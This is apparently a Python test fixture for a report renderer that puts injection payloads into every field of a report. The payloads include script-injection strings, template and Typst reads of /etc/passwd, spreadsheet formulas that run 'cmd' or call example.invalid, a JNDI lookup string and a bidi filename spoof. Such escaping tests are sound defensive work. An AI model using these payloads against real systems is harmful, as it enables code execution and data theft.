"""Text that wants to be more than text, and a report that holds it in every field."""

from reviewer_audit.render.document import Source
from reviewer_audit.reports.model import (
    CellKind,
    ChartKind,
    ChartSpec,
    Column,
    Curve,
    DataTable,
    Figure,
    KeyFigure,
    KeyFigures,
    Mark,
    Paragraph,
    Report,
    Section,
    Style,
    Word,
)
from reviewer_audit.stats.measure import Estimate

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "closing": "</style></title></svg></table><script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'y\' autofocus onfocus=alert(1)',
    "link": "javascript:alert(1)",
    "address": "http://example.invalid/?x=<a href=javascript:alert(1)>y</a>",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}{# x #}",
    "typst": '#read("/etc/passwd") #eval("1+1") $x$ *b* = h `raw` @ref <label> \\u{41}',
    "entity": "&lt;script&gt;&#x3c;b&#x3e;<![CDATA[x]]><!-- -->",
    "control": "".join(map(chr, range(32))) + "\x7f\x85\x9f\ufffe\uffff",
    "override": "\u202egnp.exe\u2067\u202b half",
    "surrogate": "half \ud800 a \udfff character",
    "long": "x" * 40_000,
    "long_words": "word " * 8_000,
    "scripts": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d \u0928\u092e\u0938\u094d\u0924\u0947 \u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35 \U0001f600",
    "unassigned": "\u0378\ue000\U000e0041\u200b\ufeff",
    "empty": "",
}

FORMULAS = {
    "equals": "=1+1",
    "array": "{=1+1}",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "new_line": "\n=1+1",
    "space": " =1+1",
    "nul": "\x00=1+1",
    "full_width": "\uff1d1\uff0b1 \uff0b1 \uff0d1 \uff20SUM",
    "command": "=cmd|' /C calc'!A0",
    "old_command": 'DDE ("cmd";"/C calc";"!A0")',
    "hyperlink": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "service": '=WEBSERVICE("http://example.invalid/")',
    "own_sheet": "='Chart data'!A1",
    "other_book": "='[other.xlsx]Sheet1'!A1",
    "error": "#N/A",
    "error_ref": "#REF!",
    "escape": "_x0041_ _x000D_ _x005F_x0041_",
    "web": "http://example.invalid/",
    "mail": "mailto:a@example.invalid",
    "inside": "internal:Sheet1!A1",
    "file": "file:///etc/passwd",
    "number": "1e5",
    "zeros": "00123",
    "yes": "TRUE",
    "day": "2026-01-02",
    "quoted": "'=1+1",
    "entities": "&quot;&amp;&#61;1",
    "footer": '&P &N &A &D &G &"Arial" && &',
    "sheet": "'[a]:b*c?d/e\\f'",
    "history": "History",
    "lookup": "${jndi:ldap://example.invalid/x} %s %(x)s {0}",
    "markdown": "![x](http://example.invalid/x.png) [y](javascript:alert(1))",
}
EVERY = PAYLOADS | FORMULAS


def poisoned(text: str) -> Report:
    """A report in which every string is the payload."""
    e = Estimate(value=0.5, n=10, numerator=5, low=0.2, high=0.8, method="wilson")
    missing = Estimate.undefined("no_data", text or "None.")
    mark = Mark(label=text, value=0.5, low=0.2, high=0.8, n=10, text=text)

    def chart(kind: ChartKind, **more) -> Figure:
        return Figure(
            chart=ChartSpec(
                key=text, kind=kind, title=text, marks=(mark, mark), target=0.9, target_text=text,
                note=text, column_title=text, row_title=text, named=True,
                curves=(Curve(name=text, points=((0, 0.4), (1, 0.5))),), **more,
            )
        )  # fmt: skip

    cells = {
        CellKind.TEXT: text,
        CellKind.ID: text,
        CellKind.WORD: Word(text=text),
        CellKind.ESTIMATE: missing,
        CellKind.COEFFICIENT: missing,
        CellKind.INTEGER: 3,
    }
    many = tuple(Column(title=text, kind=kind) for kind in cells) * 3
    figure = KeyFigure(
        key=text, title=text, estimate=e, text=text, range=text, note=text, verdict=Word(text=text)
    )
    blocks = (
        *(Paragraph(text=text, style=style) for style in Style),
        KeyFigures(figures=(figure, figure)),
        DataTable(
            key=text, columns=many, rows=(tuple(cells.values()) * 3,) * 2, title=text, note=text,
            muted=frozenset({1}), heat=True,
        ),
        DataTable(key=text, columns=many[:1], rows=(), title=text, empty=text),
        *(chart(kind) for kind in ChartKind if kind is not ChartKind.HEAT),
        chart(ChartKind.HEAT, rows=(text, text), columns=(text,)),
    )  # fmt: skip
    sections = (
        Section(key=text, title=text, blocks=blocks),
        Section(key=text, title=text, blocks=()),
    )
    return Report(
        title=text, subtitle=text, sections=sections, edition=text, vendor=text, stamp=text,
        facts=((text, text),),
    )  # fmt: skip


def poisoned_source(text: str) -> Source:
    return Source(project=text, round_title=text, journal_head=text, written=text, program=text)
